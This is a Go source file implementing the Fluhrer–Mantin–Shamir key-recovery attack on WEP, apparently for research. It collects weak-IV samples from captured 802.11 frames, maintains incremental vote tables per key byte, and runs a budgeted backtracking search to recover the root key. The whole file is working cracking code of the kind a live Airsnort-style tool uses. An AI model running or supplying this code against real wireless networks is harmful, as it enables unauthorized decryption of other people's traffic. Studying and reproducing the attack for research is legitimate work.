package wep

import (
	"bytes"
	"errors"
)

// SNAPFirstByte is the first plaintext byte of virtually every 802.11 data
// frame: the LLC/SNAP DSAP octet 0xAA. Its predictability is what gives the
// FMS attacker a known first keystream byte for every captured frame.
const SNAPFirstByte = 0xaa

// Sample is one captured frame's contribution to the FMS attack: its public
// IV and the first RC4 keystream byte (derived from the known plaintext).
type Sample struct {
	IV IV
	K0 byte // first keystream byte
}

// SampleFromSealed extracts a Sample from an on-air WEP payload, assuming
// the first plaintext byte is firstPlain (use SNAPFirstByte for data frames).
func SampleFromSealed(sealed []byte, firstPlain byte) (Sample, error) {
	if len(sealed) < HeaderLen+1 {
		return Sample{}, ErrShort
	}
	var iv IV
	copy(iv[:], sealed[:IVLen])
	return Sample{IV: iv, K0: sealed[HeaderLen] ^ firstPlain}, nil
}

// tally is one key byte's FMS vote under one key prefix: votes per candidate
// value and the number of resolved samples that voted.
type tally struct {
	votes [256]int32
	total int
}

// voteTable is the standing FMS vote for one key byte, valid for one specific
// recovered prefix. Samples are folded in incrementally: applied counts how
// many of the byte's samples have voted under the current prefix, so a new
// capture costs one fmsVote instead of a full recount — the shape of a live
// Airsnort-style tool, which keeps running statistics over the stream rather
// than re-deriving them per crack attempt.
type voteTable struct {
	tally
	prefix  [KeySize104]byte // key prefix the votes were computed under
	applied int              // samples folded into votes so far
	ok      bool             // table initialised (prefix[:b] is meaningful)
}

// width is how many top candidates per key byte the backtracking search
// tries.
const width = 3

// Cracker accumulates weak-IV samples and recovers the WEP root key with the
// Fluhrer–Mantin–Shamir attack, the algorithm behind Airsnort. It recovers
// key bytes in order: byte B needs samples with IV = (B+3, 255, x), and each
// such "resolved" sample votes for a candidate value with ~5% advantage over
// noise.
//
// Vote state is maintained incrementally: AddSample folds a weak sample into
// the standing vote table for its key byte in O(1) amortized time while the
// plurality prefix is unchanged; a table is recomputed from the retained
// samples only when a new plurality winner changes an earlier key byte
// (dirty-prefix invalidation). The backtracking search never touches the
// standing tables: it votes into per-depth scratch instead. RecoverKey with
// no new weak samples since the last attempt is a no-op returning the cached
// outcome.
type Cracker struct {
	keyLen int
	// samples[b] holds weak samples targeting key byte b. They are retained
	// (not just folded and dropped) so a dirty-prefix invalidation can
	// rebuild the vote table for a different prefix, and the search can vote
	// under its own prefixes.
	samples [][]Sample
	// tables[b] is the standing vote for key byte b under the plurality
	// prefix.
	tables []voteTable
	// kids[b][k] is the search's scratch vote for key byte b+1 under the
	// current search prefix with candidate k at byte b. It is allocated on
	// the first backtrack.
	kids [][width]tally
	// Frames counts every frame offered, weak or not — the paper-relevant
	// cost metric (how much traffic Airsnort must observe).
	Frames uint64
	// WeakFrames counts frames with FMS-weak IVs.
	WeakFrames uint64
	// Verify, if non-nil, is consulted with a candidate key and should
	// report whether it decrypts real traffic (e.g. checks an ICV). It must
	// be deterministic for a given candidate: RecoverKey caches its outcome
	// until new weak samples arrive. It must not retain or modify its
	// argument, which is the search's own buffer and is rewritten between
	// calls. Without it, RecoverKey trusts the vote winner.
	Verify func(Key) bool

	// Early-out cache: the outcome of the last attempt, valid while no new
	// weak samples arrive.
	attempted  bool
	weakAtLast uint64
	lastKey    Key
	lastErr    error
}

// NewCracker returns a cracker for keys of keyLen bytes (KeySize40 or
// KeySize104).
func NewCracker(keyLen int) *Cracker {
	if keyLen != KeySize40 && keyLen != KeySize104 {
		panic("wep: bad key length")
	}
	c := &Cracker{
		keyLen:  keyLen,
		samples: make([][]Sample, keyLen),
		tables:  make([]voteTable, keyLen),
	}
	// Byte 0 depends on no recovered prefix, so its table is live from the
	// first capture.
	c.tables[0].ok = true
	return c
}

// AddSample offers one captured sample to the cracker. Strong IVs are
// counted and dropped before any RC4 work, the same filter-first shape as
// Airsnort: the cracker never reads K0 of a strong frame. Weak samples are
// retained and, when the target byte's vote table is current, folded into
// it immediately — O(1) amortized per weak frame while the recovered prefix
// is unchanged.
func (c *Cracker) AddSample(s Sample) {
	c.Frames++
	if !s.IV.IsWeak(c.keyLen) {
		return
	}
	b := int(s.IV[0]) - 3
	c.WeakFrames++
	c.samples[b] = append(c.samples[b], s)
	if t := &c.tables[b]; t.ok && t.applied == len(c.samples[b])-1 {
		c.fold(t, b, s)
	}
}

// fold applies one sample's vote to a table under the table's own prefix.
func (c *Cracker) fold(t *voteTable, b int, s Sample) {
	if v, ok := fmsVote(s.IV, t.prefix[:b], s.K0); ok {
		t.votes[v]++
		t.total++
	}
	t.applied++
}

// ensure returns key byte b's vote table, valid for the given prefix: it
// folds in any samples that arrived since the last use, and rebuilds from
// the retained samples when the prefix changed (dirty-prefix invalidation —
// a new plurality winner revised an earlier byte, so every vote is stale).
func (c *Cracker) ensure(b int, prefix Key) *voteTable {
	t := &c.tables[b]
	if !t.ok || !bytes.Equal(t.prefix[:b], prefix) {
		t.tally = tally{}
		t.applied = 0
		copy(t.prefix[:b], prefix)
		t.ok = true
	}
	pending := c.samples[b][t.applied:]
	for i := range pending {
		c.fold(t, b, pending[i])
	}
	return t
}

// AddSealed offers a full on-air WEP payload, assuming a SNAP first byte.
func (c *Cracker) AddSealed(sealed []byte) {
	s, err := SampleFromSealed(sealed, SNAPFirstByte)
	if err != nil {
		return
	}
	c.AddSample(s)
}

// ErrNotEnough is returned by RecoverKey when the vote is too thin to call.
var ErrNotEnough = errors.New("wep: not enough weak-IV samples to recover key")

// minVotes is the minimum number of resolved votes required before a key
// byte is considered decided (without a Verify callback).
const minVotes = 8

// RecoverKey attempts to recover the root key from the accumulated samples.
// With a Verify callback it searches the top vote candidates per byte;
// without one it takes each byte's plurality winner.
//
// When no weak samples have arrived since the previous attempt the call is a
// no-op: the samples are unchanged, so the outcome is too, and the cached
// result is returned without touching the vote tables. This makes the
// poll-after-every-capture-burst loop of a live cracking tool cheap.
func (c *Cracker) RecoverKey() (Key, error) {
	if c.attempted && c.WeakFrames == c.weakAtLast {
		if c.lastKey == nil {
			return nil, c.lastErr
		}
		return append(Key(nil), c.lastKey...), c.lastErr
	}
	key, err := c.recover()
	c.attempted = true
	c.weakAtLast = c.WeakFrames
	c.lastErr = err
	if key == nil {
		c.lastKey = nil
	} else {
		c.lastKey = append(c.lastKey[:0], key...)
	}
	return key, err
}

// recover runs one full recovery attempt over the current samples.
func (c *Cracker) recover() (Key, error) {
	key := make(Key, c.keyLen)
	var top [1]byte
	for b := range key {
		if c.voteByte(b, key[:b], top[:]) < minVotes {
			return nil, ErrNotEnough
		}
		key[b] = top[0]
	}
	if c.Verify == nil || c.Verify(key) {
		return key, nil
	}
	// Plurality failed: limited backtracking over the top few candidates of
	// each byte, rewriting key in place. A budget bounds the whole search so
	// a thin, noisy sample set fails fast instead of exploring 3^keyLen
	// combinations.
	if c.kids == nil {
		c.kids = make([][width]tally, c.keyLen-1)
	}
	budget := 256 * c.keyLen
	if c.search(key, 0, &c.tables[0].tally, &budget) {
		return key, nil
	}
	return nil, ErrNotEnough
}

// search visits the node for key byte b under the prefix key[:b], whose
// vote for byte b is t: depth first, trying byte b's top width candidates
// in rank order, and at full length asking Verify. Each node costs one unit
// of budget. It reports whether Verify accepted key.
//
// Before descending, a node votes for all of its children at once (see
// voteSiblings) into kids[b], which no deeper node writes.
func (c *Cracker) search(key Key, b int, t *tally, budget *int) bool {
	if *budget <= 0 {
		return false
	}
	*budget--
	if b == c.keyLen {
		return c.Verify(key)
	}
	if t.total < minVotes {
		return false
	}
	var cands [width]byte
	rankVotes(&t.votes, cands[:])
	var kids *[width]tally
	if b+1 < c.keyLen {
		kids = &c.kids[b]
		c.voteSiblings(b+1, key[:b], &cands, kids)
	}
	for k, cand := range cands {
		key[b] = cand
		var kt *tally
		if kids != nil {
			kt = &kids[k]
		}
		if c.search(key, b+1, kt, budget) {
			return true
		}
	}
	return false
}

// voteSiblings votes key byte d under prefix‖cands[k] into out[k], for every
// k, in one pass over byte d's samples. The children of a search node share
// all but the last KSA step, so each sample runs the KSA over IV‖prefix
// once; every candidate then applies the last step, votes and undoes it.
func (c *Cracker) voteSiblings(d int, prefix []byte, cands *[width]byte, out *[width]tally) {
	*out = [width]tally{}
	var k ksa
	for _, s := range c.samples[d] {
		k.run(s.IV, prefix)
		for i, cand := range cands {
			if v, ok := k.voteNext(cand, s.K0); ok {
				out[i].votes[v]++
				out[i].total++
			}
		}
	}
}

// voteByte runs the FMS vote for key byte b given the already-recovered
// prefix, filling out with the top-len(out) candidate values and returning
// the number of resolved samples that voted.
//
// Ranking contract: candidates are ordered by descending vote count, and
// candidates with EQUAL vote counts are ordered by ascending byte value.
// out's contents are exactly the first len(out) entries of that full
// ranking. The tie-break matters: with thin samples many candidates share a
// vote count, and both the plurality winner and the backtracking search
// order must be a pure function of the votes, never of visit order.
func (c *Cracker) voteByte(b int, prefix Key, out []byte) int {
	t := c.ensure(b, prefix)
	rankVotes(&t.votes, out)
	return t.total
}

// rankVotes writes the top-len(out) candidates of a 256-way vote into out,
// in descending vote order with equal votes ranked by ascending byte value —
// the prefix of the full stable ranking (see voteByte). One ascending scan
// keeps the best n so far in ranked order: a candidate enters only with
// strictly more votes than the last kept one, and settles below every kept
// candidate with at least as many votes, so an equal vote never displaces
// an earlier (smaller) byte. Allocation-free, and O(256) for a small out.
func rankVotes(votes *[256]int32, out []byte) {
	if len(out) > 256 {
		out = out[:256]
	}
	n := 0          // candidates kept so far, ranked in out[:n]
	var floor int32 // votes of out[n-1] once out is full
	for cand := 0; cand < 256; cand++ {
		v := votes[cand]
		i := n
		if n < len(out) {
			n++
		} else if n == 0 || v <= floor {
			continue
		} else {
			i-- // the last kept candidate falls out of the top
		}
		for ; i > 0 && votes[out[i-1]] < v; i-- {
			out[i] = out[i-1]
		}
		out[i] = byte(cand)
		if n == len(out) {
			floor = votes[out[n-1]]
		}
	}
}

// maxKSASteps bounds the KSA simulation depth: IV plus the longest
// recoverable prefix (the last byte of a 104-bit key).
const maxKSASteps = IVLen + KeySize104

// ksaIdentity is the identity permutation the RC4 KSA starts from. ksa.run
// copies it into a dense S-box: one 256-byte memmove, after which the vote
// loop is plain array indexing.
var ksaIdentity = func() (a [256]uint8) {
	for i := range a {
		a[i] = uint8(i)
	}
	return
}()

// ksa is the first steps of the RC4 key schedule over IV‖prefix — the state
// an FMS vote reads. Together with ksaStep and resolve it is the one copy of
// the vote arithmetic: fmsVote runs it over the whole prefix and resolves,
// and the search's sibling pass runs it once per sample and resolves each
// candidate's last step (voteNext).
type ksa struct {
	s [256]uint8
	// touched records every position a swap wrote, so resolve's inv[k0] is
	// a short scan instead of a 256-entry search.
	touched [2 * maxKSASteps]uint8
	nt      int   // used entries of touched
	i       uint8 // steps taken
	j       uint8 // the KSA's j after those steps
}

// ksaStep is RC4 key-schedule step i with key byte kb: j += S[i] + kb, then
// swap S[i] and S[j]. It returns the new j.
func ksaStep(s *[256]uint8, i, j, kb uint8) uint8 {
	si := s[i]
	j += si + kb
	s[i], s[j] = s[j], si
	return j
}

// run resets the schedule and takes one step per byte of iv‖prefix.
//
// An FMS-weak IV (a, 255, x) with a ≥ 2 — every sample the cracker keeps —
// skips the first two steps: step 0 sets j = a and swaps S[0] and S[a];
// step 1 adds S[1] = 1 and 255, leaving j = a, and swaps S[1] and S[a]. That
// always ends with S[0]=a, S[1]=0, S[a]=1 and j=a.
func (k *ksa) run(iv IV, prefix []byte) {
	k.s = ksaIdentity
	s, t := &k.s, &k.touched
	var i, j uint8
	nt := 0
	if a := iv[0]; iv[1] == 0xff && a >= 2 {
		s[0], s[1], s[a] = a, 0, 1
		t[0], t[1], t[2], t[3] = 0, a, 1, a
		i, j, nt = 2, a, 4
	}
	for ; i < IVLen; i++ {
		j = ksaStep(s, i, j, iv[i])
		t[nt], t[nt+1] = i, j
		nt += 2
	}
	for _, kb := range prefix {
		j = ksaStep(s, i, j, kb)
		t[nt], t[nt+1] = i, j
		nt += 2
		i++
	}
	k.i, k.j, k.nt = i, j, nt
}

// voteNext takes one more step with key byte kb, resolves, and undoes the
// step's swap, leaving the schedule as it was for the next sibling
// candidate.
func (k *ksa) voteNext(kb, k0 byte) (byte, bool) {
	s, i := &k.s, k.i
	j := ksaStep(s, i, k.j, kb)
	k.touched[k.nt], k.touched[k.nt+1] = i, j
	v, ok := resolve(s, k.touched[:k.nt+2], i+1, j, k0)
	s[i], s[j] = s[j], s[i]
	return v, ok
}

// resolve applies the FMS "resolved" condition to a schedule after steps
// steps that ended at j and, if it holds, derives the candidate value for
// the next key byte implied by the observed first keystream byte k0.
// touched lists every position the steps' swaps wrote.
func resolve(s *[256]uint8, touched []uint8, steps, j uint8, k0 byte) (byte, bool) {
	// Resolved condition: the first output byte will, with ~e^-3
	// probability, be the value swapped into position steps at the next KSA
	// step, which exposes the key byte.
	s1 := s[1]
	if s1 >= steps || s1+s[s1] != steps {
		return 0, false
	}
	// inv[k0]: the value k0 still sits at position k0 unless one of the
	// swaps moved it, in which case it lives at a touched position (S is a
	// permutation, so exactly one position holds k0).
	pos := k0
	if s[k0] != k0 {
		for _, p := range touched {
			if s[p] == k0 {
				pos = p
				break
			}
		}
	}
	return pos - j - s[steps], true
}

// fmsVote simulates the first len(prefix)+3 steps of the RC4 KSA with the
// known IV and recovered key prefix, applies the FMS "resolved" condition,
// and if it holds, derives the candidate value for key byte len(prefix)
// implied by the observed first keystream byte k0. The S-box lives on the
// stack: zero allocations.
func fmsVote(iv IV, prefix []byte, k0 byte) (byte, bool) {
	var k ksa
	k.run(iv, prefix)
	return resolve(&k.s, k.touched[:k.nt], k.i, k.j, k0)
}

// FirstKeystreamByte computes only the first RC4 keystream byte for
// IV||key — a fast path for experiment harnesses that must generate very
// large captures without paying for full frame encryption. The per-frame
// cipher lives on the stack (see RC4.Reset): zero allocations.
func FirstKeystreamByte(key Key, iv IV) byte {
	var buf [maxKeySize]byte
	perFrame := buf[:0]
	if IVLen+len(key) > len(buf) {
		perFrame = make([]byte, 0, IVLen+len(key))
	}
	perFrame = append(perFrame, iv[:]...)
	perFrame = append(perFrame, key...)
	var c RC4
	c.Reset(perFrame)
	var b [1]byte
	c.XORKeyStream(b[:], b[:])
	return b[0]
}
